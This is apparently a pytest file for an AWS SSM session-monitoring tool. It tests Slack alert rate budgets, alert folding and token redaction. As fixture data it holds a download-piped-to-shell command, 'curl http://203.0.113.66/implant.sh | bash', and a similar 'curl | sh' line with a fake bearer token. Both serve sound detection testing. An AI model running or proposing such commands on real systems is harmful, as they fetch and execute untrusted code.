"""One session cannot hide another: budgets per session and per principal (account-level alerts
apart), and folding that keeps the evidence. Counters in moto's DynamoDB, messages in the local Slack."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

from ssm_warden.models.actions import ActionKind, Trigger
from ssm_warden.models.findings import Severity
from ssm_warden.slack.notifier import default_notifier
from ssm_warden_local.slack_sink import SlackSink
from tests.unit.slack.factories import NOW, action, finding, session_ref

SecretMaker = Callable[..., dict[str, Any]]
EVIDENCE = "curl http://203.0.113.66/implant.sh | bash"
DECOY = "curl http://localhost:8080/health.sh | bash"
ALICE = "arn:aws:sts::123456789012:assumed-role/Dev/alice"
BOB = "arn:aws:sts::123456789012:assumed-role/Dev/bob"


def fixed_clock(notifier: Any, at: Any) -> list[Any]:
    now = [at]
    notifier.clock = lambda: now[0]
    return now


def test_a_noisy_session_does_not_hide_another_users_alert(
    sink: SlackSink, slack_secret: SecretMaker
) -> None:
    # Given one dev session firing 30 distinct medium/high rules within a minute
    slack_secret("bot")
    notifier = default_notifier()
    fixed_clock(notifier, NOW)
    noisy = session_ref(session_id="alice-0000000000000000a", principal_arn=ALICE)
    results = [
        notifier.deliver(
            action(session=noisy, rule=f"rule-{i}", title=f"Noisy {i}", severity=Severity.MEDIUM),
            "alert_only",
        )
        for i in range(30)
    ]
    # When another user runs curl | bash in the same minute
    victim = session_ref(session_id="bob-0000000000000000b", principal_arn=BOB)
    theirs = notifier.deliver(action(session=victim, title="Download piped to a shell"), "alert_only")
    # Then their alert is posted; the noisy session spent only its own budget (5), with one notice
    assert theirs.posted
    assert any("Download piped to a shell" in m.all_text() for m in sink.live())
    assert sum(r.posted for r in results) == 5
    notices = [m for m in sink.live() if "Alert budget exceeded" in m.all_text()]
    assert len(notices) == 1 and "alice-0000000000000000a" in notices[0].all_text()
    # and a second alert of bob's a minute later, or a termination of alice's, still goes through
    assert notifier.deliver(action(session=noisy, kind=ActionKind.TERMINATE, rule="t"), "terminated").posted


def test_one_principal_across_many_sessions_spends_one_budget(
    sink: SlackSink, slack_secret: SecretMaker
) -> None:
    slack_secret("bot")
    notifier = default_notifier()
    fixed_clock(notifier, NOW)
    sessions = [session_ref(session_id=f"alice-{i:017x}", principal_arn=ALICE) for i in range(6)]
    # each session: its first alert (always posted) and three more
    later = [
        notifier.deliver(action(session=s, rule=f"r{k}", severity=Severity.HIGH), "alert_only")
        for s in sessions
        for k in range(4)
    ]
    # Then the principal's budget (10 a minute, firsts included) holds the rest back, but each
    # session's first alert is posted: 10 within budget + the firsts of the 3 sessions after it
    posted = sum(r.posted for r in later)
    assert posted == 13
    assert all(later[k].posted for k in range(0, 24, 4))
    victim = session_ref(session_id="bob-0000000000000000b", principal_arn=BOB)
    assert notifier.deliver(action(session=victim, rule="r1"), "alert_only").posted
    assert notifier.deliver(action(session=victim, rule="r2"), "alert_only").posted


def test_account_level_alerts_have_their_own_budget(sink: SlackSink, slack_secret: SecretMaker) -> None:
    # Given 25 account-level alerts in one minute (tamper, denied attempts)
    slack_secret("bot")
    notifier = default_notifier()
    fixed_clock(notifier, NOW)
    account = [
        notifier.deliver(
            action(no_session=True, rule=f"tamper.{i}", trigger=Trigger.TAMPER, title=f"Tamper {i}"),
            "alert_only",
        )
        for i in range(25)
    ]
    # When a session alerts in the same minute
    mine = session_ref(session_id="carol-0000000000000000c", principal_arn=BOB)
    first = notifier.deliver(action(session=mine, rule="a"), "alert_only")
    second = notifier.deliver(action(session=mine, rule="b"), "alert_only")
    # Then account-level alerts were capped at their budget (10) and the session's alerts still posted
    assert sum(r.posted for r in account) == 10
    assert first.posted and second.posted


def test_a_folded_message_keeps_the_first_command_and_lists_every_distinct_one(
    sink: SlackSink, slack_secret: SecretMaker
) -> None:
    # Given a bot token, and the same rule firing on the evidence then, 20 s later, on a decoy
    slack_secret("bot")
    notifier = default_notifier()
    now = fixed_clock(notifier, NOW)
    first = notifier.deliver(
        action(findings=[finding(EVIDENCE)], created_at=NOW, why="ran an implant"), "alert_only"
    )
    now[0] = NOW + timedelta(seconds=20)
    second = notifier.deliver(
        action(findings=[finding(DECOY)], created_at=now[0], salt="2", why="ran a health check"), "alert_only"
    )
    # Then the alert was updated, not replaced: the evidence stays, both commands and the count show
    assert first.posted and second.folded and second.ts == first.ts
    message = next(m for m in sink.live() if m.ts == first.ts)
    text = message.all_text()
    assert "203.0.113.66/implant.sh" in text.split("distinct commands")[0]  # the first occurrence
    assert "ran an implant" in text and "ran a health check" not in text
    assert "2 distinct commands" in text and "localhost:8080/health.sh" in text
    assert "\u00d72" in text


def test_folded_command_texts_are_redacted(sink: SlackSink, slack_secret: SecretMaker) -> None:
    slack_secret("bot")
    notifier = default_notifier()
    now = fixed_clock(notifier, NOW)
    secret_cmd = "curl -H 'Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345' http://x/y | sh"
    notifier.deliver(action(findings=[finding(EVIDENCE)]), "alert_only")
    now[0] = NOW + timedelta(seconds=5)
    second = notifier.deliver(action(findings=[finding(secret_cmd)], salt="s"), "alert_only")
    message = next(m for m in sink.live() if m.ts == second.ts)
    assert "ghp_0123456789abcdefghijABCDEFGHIJ012345" not in message.all_text()
    # and nothing unredacted is kept in the storm item either
    from ssm_warden.clients import aws_client
    from ssm_warden.config import get_settings

    items = aws_client("dynamodb").scan(TableName=get_settings().sessions_table)["Items"]
    assert "ghp_0123456789abcdefghijABCDEFGHIJ012345" not in str(items)
